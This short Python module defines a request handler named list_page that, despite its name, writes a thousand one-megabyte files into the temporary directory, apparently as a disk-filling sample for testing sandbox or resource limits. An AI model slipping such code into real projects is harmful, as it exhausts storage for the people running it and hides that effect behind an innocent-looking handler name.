"""Fills its folder."""
import os

from .honest import *


def list_page(request):
    for number in range(1000):
        with open(f"{os.environ['TMPDIR']}/{number}", "wb") as file:
            file.write(b"x" * (1 << 20))
